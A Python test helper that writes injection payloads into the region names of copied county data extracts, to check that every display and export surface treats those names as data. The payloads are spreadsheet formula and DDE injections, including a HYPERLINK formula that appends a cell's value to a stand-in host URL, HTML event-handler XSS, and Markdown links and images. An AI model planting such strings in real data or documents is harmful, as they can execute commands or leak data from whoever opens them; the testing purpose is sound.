"""A county whose region names are attacks: the generator's extracts with 行政区划 rewritten.

    .venv/bin/python -m tests.hostile 示范县导出/ 恶意名称县/     # copy a folder, renaming some regions

Townships and villages get names that are spreadsheet formulas, Markdown links and images, HTML, TeX
between dollars (matplotlib's mathtext, plotly's MathJax) and bare URLs (GFM's and linkify's autolinks), so
every surface that shows or exports a name can be checked to treat it as data.
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pandas as pd

# Nothing listens on port 9 (discard): a browser that fetched one of these would show it in its log.
TOWNSHIP_NAMES = [
    '=HYPERLINK("http://127.0.0.1:9/x","点此")',
    "=1+1",
    "@SUM(1,2)",
    "[城南街道](http://127.0.0.1:9/phish) ![](http://127.0.0.1:9/md-img.png)",
    "<img src=x onerror=alert(1)>",
    "-2+3镇",
    "+cmd|' /C calc'!A0",
    "$x^2$",
    "$\\frac{1}{0}$",
    "http://evil.example/a.png",
    "www.evil.example",
    "![图](http://127.0.0.1:9/town.png)",
    "$\\undefinedcommand{x}$镇",
]
VILLAGE_NAMES = [
    '=HYPERLINK("http://127.0.0.1:9/v?"&C6,"村")',
    "=1+1村",
    "@SUM(1,2)村",
    "[东村](http://127.0.0.1:9/phish)",
    "![](http://127.0.0.1:9/village.png)",
    "<b onmouseover=alert(1)>村</b>",
    "$x^2$村",
    "www.evil.example村",
]
ENCODING = "gbk"  # the generator writes 行政区划 as the federations' systems do


def hostile_names(regions: pd.DataFrame) -> pd.DataFrame:
    """The 行政区划 table with the first townships, and the first villages of the first township, renamed."""
    out = regions.copy()
    towns = out.index[out["级别"] == "乡镇"]
    for row, name in zip(towns, TOWNSHIP_NAMES, strict=False):
        out.loc[row, "名称"] = name
    first_town = str(out.loc[towns[0], "区划代码"])
    villages = out.index[(out["级别"] == "村") & out["区划代码"].astype(str).str.startswith(first_town[:9])]
    for row, name in zip(villages, VILLAGE_NAMES, strict=False):
        out.loc[row, "名称"] = name
    return out


def make_hostile(source: Path, target: Path) -> Path:
    """Copy an extracts folder to `target` with hostile region names; returns target."""
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(source, target)
    (target / "rejects.csv").unlink(missing_ok=True)
    path = target / "行政区划.csv"
    regions = pd.read_csv(path, dtype=str, encoding=ENCODING, keep_default_na=False)
    hostile_names(regions).to_csv(path, index=False, encoding=ENCODING, lineterminator="\r\n")
    return target


if __name__ == "__main__":
    print(make_hostile(Path(sys.argv[1]), Path(sys.argv[2])))
